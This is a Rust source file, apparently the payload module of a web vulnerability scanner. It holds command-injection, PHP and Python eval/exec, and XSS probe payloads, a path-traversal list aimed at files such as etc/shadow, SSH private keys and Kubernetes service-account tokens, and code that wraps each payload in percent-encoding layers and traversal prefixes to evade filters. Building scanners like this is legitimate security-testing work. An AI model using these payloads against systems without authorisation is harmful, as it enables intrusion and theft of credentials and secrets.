use crate::core::PayloadCategory;
use log::warn;
use percent_encoding::{utf8_percent_encode, AsciiSet, NON_ALPHANUMERIC};
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::BufRead;
use std::path::Path;

pub const SEED_COMMAND: &[&str] = &["sleep 30"];

pub const SEED_PHP: &[&str] = &["sleep(30)", "sleep(30);"];

pub const SEED_PYTHON: &[&str] = &[
    r"time.sleep(30)",
    r"eval(compile('import time\ntime.sleep(30)','cobra','exec'))",
    r"eval(compile('import os\nos.system('sleep 30')','cobra','exec'))",
    r"__import__('time').sleep(30)",
    r"__import__('os').system('sleep 30')",
    r#"eval("__import__('time').sleep(30)")"#,
    r#"eval("__import__('os').system('sleep 30')")"#,
    r#"exec("__import__('time').sleep(30)")"#,
    r#"exec("__import__('os').system('sleep 30')")"#,
    r#"exec("import time\ntime.sleep(30)")"#,
    r#"exec("import os\nos.system('sleep 30')")"#,
];

pub const SEED_XSS: &[&str] = &[
    r"<iframe>Cobra</iframe>",
    r"<p>cobra</p>",
    r"<script>alert('Cobra')</script>",
    r"<script>await sleep(30);</script>",
    r"<script>prompt('Cobra')</script>",
    r"<strong>cobra</strong>",
    r"<style>body{background-color:red;}</style>",
    r"<title>cobra</title>",
];

pub const SEED_EMOJI: &[&str] = &[
    "\u{1F47C}",
    "\u{1F525}",
    "\u{1F638}",
    "\u{1F431}",
    "\u{1F346}",
    "&#128124;",
    "&#128293;",
    "&#128568;",
    "&#128049;",
    "&#127814;",
];

pub const SEED_DIRECTORY: &[&str] = &[
    r"c:\windows\system32\eula.txt",
    r"c:\windows\system32\license.rtf",
    ".git",
    ".gitignore",
    "application/index/controller/Service.php",
    "application/plugins/controller/Upload.php",
    "application/websocket/controller/Setting.php",
    "apply/index.php",
    "etc/group",
    "etc/hosts",
    "etc/issue",
    "etc/motd",
    "etc/mysql/my.cnf",
    "etc/passwd",
    "etc/shadow",
    "etc/sudoers",
    "filedir",
    "home/$USER/.bash_history",
    "home/$USER/.ssh/id_rsa",
    "include/file.php",
    "proc/cmdline",
    "proc/mounts",
    "proc/net/arp",
    "proc/net/route",
    "proc/net/tcp",
    "proc/net/udp",
    "proc/self/cwd/index.php",
    "proc/self/cwd/main.py",
    "proc/version",
    "run/secrets/kubernetes.io/serviceaccount/certificate",
    "run/secrets/kubernetes.io/serviceaccount/namespace",
    "run/secrets/kubernetes.io/serviceaccount/token",
    "usr/local/apache/log/error_log",
    "usr/local/apache2/log/error_log",
    "var/lib/mlocate.db",
    "var/lib/mlocate/mlocate.db",
    "var/lib/plocate/plocate.db",
    "var/log/apache/access.log",
    "var/log/apache/error.log",
    "var/log/httpd/error_log",
    "var/log/mail",
    "var/log/nginx/access.log",
    "var/log/nginx/error.log",
    "var/log/sshd.log",
    "var/log/vsftpd.log",
    "var/run/secrets/kubernetes.io/serviceaccount",
];

/// Traversal prefixes glued onto every seed.
pub const TRAVERSAL_PREFIXES: &[&str] = &["./", "../", "..;/", "/.", "/.."];

/// Bytes left alone when quoting: alphanumerics, `_.-~` and `/`.
const QUOTE_SET: &AsciiSet = &NON_ALPHANUMERIC
    .remove(b'_')
    .remove(b'.')
    .remove(b'-')
    .remove(b'~')
    .remove(b'/');

/// Percent-encodes a payload, leaving path separators intact.
pub fn quote(input: &str) -> String {
    utf8_percent_encode(input, QUOTE_SET).to_string()
}

/// Expands seeds into the obfuscated working set.
///
/// Each seed contributes itself, one/two/three rounds of quoting and the
/// five traversal-prefixed forms. The result is a fresh set; duplicates
/// between variants simply collapse.
pub fn obfuscate<S: AsRef<str>>(seeds: &[S]) -> BTreeSet<String> {
    let mut expanded = BTreeSet::new();
    for seed in seeds {
        let seed = seed.as_ref();
        let once = quote(seed);
        let twice = quote(&once);
        let thrice = quote(&twice);

        expanded.insert(seed.to_string());
        expanded.insert(once);
        expanded.insert(twice);
        expanded.insert(thrice);
        for prefix in TRAVERSAL_PREFIXES {
            expanded.insert(format!("{}{}", prefix, seed));
        }
    }
    expanded
}

fn builtin_seeds(category: PayloadCategory) -> &'static [&'static str] {
    match category {
        PayloadCategory::Command => SEED_COMMAND,
        PayloadCategory::Directory => SEED_DIRECTORY,
        PayloadCategory::Php => SEED_PHP,
        PayloadCategory::Python => SEED_PYTHON,
        PayloadCategory::Xss => SEED_XSS,
        PayloadCategory::Emoji => SEED_EMOJI,
    }
}

/// Expanded payload sets for every category, built once per scan.
#[derive(Debug, Clone, Default)]
pub struct PayloadLoader {
    sets: BTreeMap<PayloadCategory, BTreeSet<String>>,
}

impl PayloadLoader {
    pub fn new() -> Self {
        Self::default()
    }

    /// Builds every category from the built-in seeds.
    pub fn load() -> Self {
        let mut loader = Self::new();
        for category in PayloadCategory::ALL {
            loader.set_seeds(category, builtin_seeds(category));
        }
        loader
    }

    /// Builds every category, taking seeds from `<dir>/<category>.txt` where
    /// such a file exists and is non-empty.
    pub fn load_from_dir(dir: &str) -> Self {
        let mut loader = Self::new();
        for category in PayloadCategory::ALL {
            let path = Path::new(dir).join(format!("{}.txt", category.file_stem()));
            let custom = load_list_from_file(&path);
            if custom.is_empty() {
                warn!("No {} seeds loaded from {:?}, using built-in list", category.file_stem(), path);
                loader.set_seeds(category, builtin_seeds(category));
            } else {
                loader.set_seeds(category, &custom);
            }
        }
        loader
    }

    /// Replaces one category with the expansion of `seeds`.
    pub fn set_seeds<S: AsRef<str>>(&mut self, category: PayloadCategory, seeds: &[S]) {
        self.sets.insert(category, obfuscate(seeds));
    }

    pub fn payloads(&self, category: PayloadCategory) -> impl Iterator<Item = &str> {
        self.sets
            .get(&category)
            .into_iter()
            .flat_map(|set| set.iter().map(String::as_str))
    }

    pub fn payload_count(&self, category: PayloadCategory) -> usize {
        self.sets.get(&category).map_or(0, BTreeSet::len)
    }

    pub fn total_payload_count(&self) -> usize {
        self.sets.values().map(BTreeSet::len).sum()
    }
}

/// Loads lines from a file, skipping empty lines and comments
pub fn load_list_from_file(path: &Path) -> Vec<String> {
    let file = match fs::File::open(path) {
        Ok(f) => f,
        Err(e) => {
            warn!("Failed to open payload file {:?}: {}", path, e);
            return Vec::new();
        }
    };
    let reader = std::io::BufReader::new(file);
    reader
        .lines()
        .filter_map(|line| line.ok())
        .map(|s| s.trim().to_string())
        .filter(|s| !s.is_empty() && !s.starts_with('#'))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    #[test]
    fn test_quote_keeps_slashes_and_unreserved() {
        assert_eq!(quote("sleep 30"), "sleep%2030");
        assert_eq!(quote("etc/passwd"), "etc/passwd");
        assert_eq!(quote("a_b.c-d~e"), "a_b.c-d~e");
        assert_eq!(quote("<p>"), "%3Cp%3E");
        assert_eq!(quote("\u{1F525}"), "%F0%9F%94%A5");
    }

    #[test]
    fn test_obfuscate_contains_expected_variants() {
        let set = obfuscate(SEED_COMMAND);
        assert!(set.contains("sleep 30"));
        assert!(set.contains("sleep%2030"));
        assert!(set.contains("sleep%252030"));
        assert!(set.contains("sleep%25252030"));
        assert!(set.contains("./sleep 30"));
        assert!(set.contains("../sleep 30"));
        assert!(set.contains("..;/sleep 30"));
        assert!(set.contains("/.sleep 30"));
        assert!(set.contains("/..sleep 30"));
        assert_eq!(set.len(), 9);
    }

    #[test]
    fn test_obfuscate_is_superset_for_every_category() {
        for category in PayloadCategory::ALL {
            let seeds = builtin_seeds(category);
            let set = obfuscate(seeds);
            for seed in seeds {
                assert!(set.contains(*seed), "{} missing seed {}", category.file_stem(), seed);
                assert!(set.contains(&quote(seed)));
                assert!(set.contains(&format!("../{}", seed)));
            }
        }
    }

    #[test]
    fn test_quote_noop_collapses() {
        // ".git" survives quoting untouched, so its three quoted forms collapse into it
        let set = obfuscate(&[".git"]);
        assert_eq!(set.len(), 6);
    }

    #[test]
    fn test_loader_builds_all_categories() {
        let loader = PayloadLoader::load();
        for category in PayloadCategory::ALL {
            assert!(loader.payload_count(category) > 0);
        }
        assert_eq!(loader.payload_count(PayloadCategory::Php), 18);
        let sum: usize = PayloadCategory::ALL.iter().map(|c| loader.payload_count(*c)).sum();
        assert_eq!(loader.total_payload_count(), sum);
    }

    #[test]
    fn test_payloads_are_unique() {
        let loader = PayloadLoader::load();
        let all: Vec<&str> = loader.payloads(PayloadCategory::Python).collect();
        let unique: BTreeSet<&str> = all.iter().copied().collect();
        assert_eq!(all.len(), unique.len());
    }

    #[test]
    fn test_load_from_dir_mixes_custom_and_builtin() {
        let dir = tempfile::tempdir().unwrap();
        let mut file = fs::File::create(dir.path().join("xss.txt")).unwrap();
        writeln!(file, "# custom probes").unwrap();
        writeln!(file, "<b>x</b>").unwrap();
        writeln!(file).unwrap();

        let loader = PayloadLoader::load_from_dir(dir.path().to_str().unwrap());
        assert!(loader.payloads(PayloadCategory::Xss).any(|p| p == "<b>x</b>"));
        assert!(!loader.payloads(PayloadCategory::Xss).any(|p| p == "<p>cobra</p>"));
        assert!(loader.payloads(PayloadCategory::Command).any(|p| p == "sleep 30"));
    }

    #[test]
    fn test_missing_file_is_empty() {
        assert!(load_list_from_file(Path::new("/definitely/not/here.txt")).is_empty());
    }
}
